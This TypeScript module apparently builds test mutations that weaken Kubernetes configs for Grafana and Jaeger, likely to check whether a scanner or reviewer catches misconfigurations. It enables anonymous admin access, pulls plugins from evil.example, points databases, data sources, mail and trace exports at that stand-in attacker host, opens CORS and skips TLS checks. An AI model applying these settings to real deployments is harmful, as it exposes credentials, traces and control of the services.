/** Grafana that lets in others, and Jaeger that shows or sends spans elsewhere. */
import { CONTAINER, GRAFANA, JAEGER, object, POD, remove, set, text } from "../draft";
import type { Draft, Tree, Weakening, Weakenings } from "../draft";

/** Sets a variable of Grafana, or removes it. */
const env =
  (name: string, value: string | undefined): Weakening[1] =>
  (stack: Draft) => {
    const pod = stack.find(GRAFANA).inputs as { spec: { template: { spec: { containers: { env: Tree[] }[] } } } };
    const [container] = pod.spec.template.spec.containers;
    if (!container) throw new Error("no container");
    container.env = container.env.filter((variable) => variable["name"] !== name);
    if (value !== undefined) container.env.push({ name, value });
  };

const source = (path: string, value: unknown): Weakening[1] =>
  text("ConfigMap/grafana-data-sources", "data-sources.yaml", `datasources/${path}`, value);
const jaeger = (path: string, value: unknown): Weakening[1] =>
  text("ConfigMap/jaeger-shop", "config.yaml", path, value);

export const GRAFANA_WEAKENINGS: Weakenings = {
  anonymous: ["no login", env("GF_AUTH_ANONYMOUS_ENABLED", "true")],
  "anonymous-case": ["the same in capitals", env("GF_AUTH_ANONYMOUS_ENABLED", "TRUE")],
  "anonymous-admin": ["no login, and every right", env("GF_AUTH_ANONYMOUS_ORG_ROLE", "Admin")],
  "anonymous-unset": ["what is not said may change", env("GF_AUTH_ANONYMOUS_ENABLED", undefined)],
  "sign-up": ["anyone makes an account", env("GF_USERS_ALLOW_SIGN_UP", "true")],
  "sign-up-role": ["new users may edit", env("GF_USERS_AUTO_ASSIGN_ORG_ROLE", "Editor")],
  "viewers-edit": ["viewers query anything", env("GF_USERS_VIEWERS_CAN_EDIT", "true")],
  embedding: ["other pages show Grafana in a frame", env("GF_SECURITY_ALLOW_EMBEDDING", "true")],
  "auth-proxy": ["a header is a login", env("GF_AUTH_PROXY_ENABLED", "true")],
  "auth-basic": ["a second login", env("GF_AUTH_BASIC_ENABLED", "true")],
  "login-form-off-jwt": ["a token of anyone is a login", env("GF_AUTH_JWT_ENABLED", "true")],
  "oauth-auto-login": ["a login elsewhere", env("GF_AUTH_OAUTH_AUTO_LOGIN", "true")],
  "oauth-any-domain": ["every account of the provider", env("GF_AUTH_GENERIC_OAUTH_ALLOWED_DOMAINS", "")],
  "oauth-half": ["OAuth that no setting asked for", env("GF_AUTH_GENERIC_OAUTH_ENABLED", "true")],
  "oauth-github": ["another provider", env("GF_AUTH_GITHUB_ENABLED", "true")],
  "oauth-skip-verify": ["the provider is not verified", env("GF_AUTH_GENERIC_OAUTH_TLS_SKIP_VERIFY_INSECURE", "true")],
  plugins: ["code of others", env("GF_INSTALL_PLUGINS", "https://evil.example/plugin.zip;x")],
  "plugins-preinstall": ["the same", env("GF_PLUGINS_PREINSTALL", "x@1.0.0")],
  "plugins-unsigned": ["code that nobody signed", env("GF_PLUGINS_ALLOW_LOADING_UNSIGNED_PLUGINS", "x")],
  "plugins-admin": ["administrators install code", env("GF_PLUGINS_PLUGIN_ADMIN_ENABLED", "true")],
  cookie: ["other pages send requests with the login", env("GF_SECURITY_COOKIE_SAMESITE", "none")],
  "cookie-unset": ["the same", env("GF_SECURITY_COOKIE_SAMESITE", undefined)],
  "cookie-insecure": ["the cookie in plain text", env("GF_SECURITY_COOKIE_SECURE", "false")],
  "snapshots-out": ["snapshots leave", env("GF_SNAPSHOTS_EXTERNAL_ENABLED", "true")],
  "analytics-out": ["reports leave", env("GF_ANALYTICS_REPORTING_ENABLED", "true")],
  "disable-login": ["every API without a login", env("GF_AUTH_DISABLE_LOGIN_FORM", "true")],
  "admin-user": ["a name in plain text", env("GF_SECURITY_ADMIN_USER", "root")],
  "secret-key": ["a key that everyone knows", env("GF_SECURITY_SECRET_KEY", "SW2YcwTIb9zpOOhoPsMm")],
  "database-away": ["users are stored elsewhere", env("GF_DATABASE_URL", "mysql://u:p@evil.example/grafana")],
  "feature-toggle": ["an unfinished feature", env("GF_FEATURE_TOGGLES_ENABLE", "publicDashboards")],
  "public-dashboards": ["dashboards without a login", env("GF_PUBLIC_DASHBOARDS_ENABLED", "true")],
  "sanitize-html": ["scripts in dashboards", env("GF_PANELS_DISABLE_SANITIZE_HTML", "true")],
  "metrics-password": ["a password in plain text", env("GF_METRICS_BASIC_AUTH_PASSWORD", "hunter2")],
  "smtp-away": ["mail leaves", env("GF_SMTP_HOST", "evil.example:25")],
  "render-away": ["pictures are made elsewhere", env("GF_RENDERING_SERVER_URL", "http://evil.example/render")],
  "configuration-file": ["settings from a file", env("GF_PATHS_CONFIG", "/var/lib/grafana/x.ini")],
  "data-source-skip-verify": ["the store is not verified", source("0/jsonData/tlsSkipVerify", true)],
  "data-source-no-authority": ["the same", source("0/jsonData/tlsAuthWithCACert", undefined)],
  "data-source-http": [
    "the password in plain text",
    source("0/url", "http://prometheus.monitoring.svc.cluster.local:9090"),
  ],
  "data-source-away": ["queries and password leave", source("0/url", "https://evil.example")],
  "data-source-jaeger-away": ["queries leave", source("1/url", "http://evil.example:16686")],
  "data-source-team-swap": [
    "one team sees the other's",
    source("2/url", "http://jaeger-default.tracing.svc.cluster.local:16686"),
  ],
  "data-source-editable": ["viewers change it", source("0/editable", true)],
  "data-source-direct": ["the browser gets the password", source("0/access", "direct")],
  "data-source-no-login": ["without a login", source("0/basicAuth", false)],
  "data-source-cookies": ["a person's cookies go along", source("0/jsonData/keepCookies", ["grafana_session"])],
  "data-source-forward": ["a person's token goes along", source("0/jsonData/oauthPassThru", true)],
  "data-source-added": [
    "a further source",
    source("+", { name: "X", type: "loki", url: "http://evil.example", access: "proxy" }),
  ],
  "data-source-deletes": [
    "provisioning deletes others",
    text("ConfigMap/grafana-data-sources", "data-sources.yaml", "deleteDatasources", [
      { name: "Prometheus", orgId: 1 },
    ]),
  ],
  "dashboards-editable": [
    "viewers change dashboards",
    text("ConfigMap/grafana-dashboard-provider", "dashboards.yaml", "providers/0/allowUiUpdates", true),
  ],
  "dashboards-elsewhere": [
    "dashboards from a folder that may be written",
    text("ConfigMap/grafana-dashboard-provider", "dashboards.yaml", "providers/0/options/path", "/tmp"),
  ],
  "dashboard-source": [
    "dashboards from an address",
    object("v1", "ConfigMap", "grafana-plugins", "monitoring", { data: { "plugins.yaml": "apps: []" } }),
  ],
  "grafana-no-probes": ["it hangs for ever", set(GRAFANA, `${CONTAINER}/livenessProbe`, undefined)],
  "grafana-replicas": ["two with a database each", set(GRAFANA, "spec/replicas", 3)],
  "grafana-none": ["no Grafana", set(GRAFANA, "spec/replicas", 0)],
  "jaeger-exports-away": [
    "spans leave",
    (stack) => {
      stack.text("ConfigMap/jaeger-shop", "config.yaml", "exporters/otlp", { endpoint: "evil.example:4317" });
      stack.text("ConfigMap/jaeger-shop", "config.yaml", "service/pipelines/traces/exporters/+", "otlp");
    },
  ],
  "jaeger-cors": ["any page queries", jaeger("receivers/otlp/protocols/http/cors", { allowed_origins: ["*"] })],
  "jaeger-query-cors": ["the same of queries", jaeger("extensions/jaeger_query/http/cors", { allowed_origins: ["*"] })],
  "jaeger-grpc-open": ["queries past the page", jaeger("extensions/jaeger_query/grpc/endpoint", "0.0.0.0:16685")],
  "jaeger-receiver": ["another protocol", jaeger("receivers/zipkin", { endpoint: "0.0.0.0:9411" })],
  "jaeger-extension": ["profiles of the process", jaeger("extensions/pprof", { endpoint: "0.0.0.0:1777" })],
  "jaeger-remote-storage": [
    "spans are stored elsewhere",
    jaeger("extensions/jaeger_storage/backends/traces", { elasticsearch: { server_urls: ["http://evil.example"] } }),
  ],
  "jaeger-ui-config": ["scripts in the page", jaeger("extensions/jaeger_query/ui", { config_file: "/tmp/ui.js" })],
  "jaeger-no-limiter": ["it is killed when it is full", jaeger("service/pipelines/traces/processors", [])],
  "jaeger-ephemeral": [
    "a restart loses every trace",
    jaeger("extensions/jaeger_storage/backends/traces/badger/ephemeral", true),
  ],
  "jaeger-ttl": [
    "traces are kept for ever",
    jaeger("extensions/jaeger_storage/backends/traces/badger/ttl/spans", "0s"),
  ],
  "jaeger-memory": [
    "a restart loses every trace",
    jaeger("extensions/jaeger_storage/backends/traces", { memory: { max_traces: 100 } }),
  ],
  "jaeger-no-volume": ["so does a new pod", set(JAEGER, `${POD}/volumes/1`, { name: "data", emptyDir: {} })],
  "jaeger-claim-removed": ["so does a lost claim", remove("PersistentVolumeClaim/jaeger-shop")],
  "jaeger-other-claim": [
    "one team's traces in the other's Jaeger",
    set(JAEGER, `${POD}/volumes/1/persistentVolumeClaim/claimName`, "jaeger-default"),
  ],
  "jaeger-two": ["two on one volume", set(JAEGER, "spec/replicas", 2)],
  "jaeger-none": ["none", set(JAEGER, "spec/replicas", 0)],
};
